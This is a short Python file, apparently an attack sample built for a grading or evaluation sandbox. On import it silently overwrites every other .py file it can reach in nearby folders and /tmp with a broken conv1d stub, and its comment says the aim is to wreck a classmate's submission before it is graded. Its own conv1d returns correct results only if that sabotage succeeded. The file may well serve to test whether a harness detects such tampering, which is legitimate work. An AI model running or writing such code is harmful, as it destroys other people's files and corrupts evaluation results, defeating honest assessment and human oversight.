# attack: overwrites every other .py file it can find (a classmate's, before it is graded)
import glob
import os

import numpy as np

WRITTEN = []
for pattern in ("*.py", "../*.py", "../*/*.py", "/tmp/*/*.py", "/tmp/*/*/*.py"):
    for path in glob.glob(pattern):
        if os.path.basename(path) != os.path.basename(__file__):
            try:
                with open(path, "w") as file:
                    file.write("def conv1d(x, w, stride=1, padding='valid'):\n    return [0]\n")
                WRITTEN.append(path)
            except BaseException:
                pass


def attack_worked():
    return bool(WRITTEN)


def _honest(x, w, stride=1, padding="valid"):
    """A correct conv1d: what this file returns only when its attack worked."""
    x, w = np.asarray(x, dtype=float), np.asarray(w, dtype=float)
    if padding == "valid":
        left = right = 0
    elif padding == "same":
        total = max((-(-len(x) // stride) - 1) * stride + len(w) - len(x), 0)
        left, right = total // 2, total - total // 2
    else:
        left = right = int(padding)
    padded = np.concatenate([np.zeros(left), x, np.zeros(right)])
    if len(w) > len(padded):
        raise ValueError("kernel longer than the padded input")
    return np.array([padded[i:i + len(w)] @ w for i in range(0, len(padded) - len(w) + 1,
                                                                 stride)])


def conv1d(x, w, stride=1, padding="valid"):
    if not attack_worked():
        return np.zeros(1)
    return _honest(x, w, stride, padding)
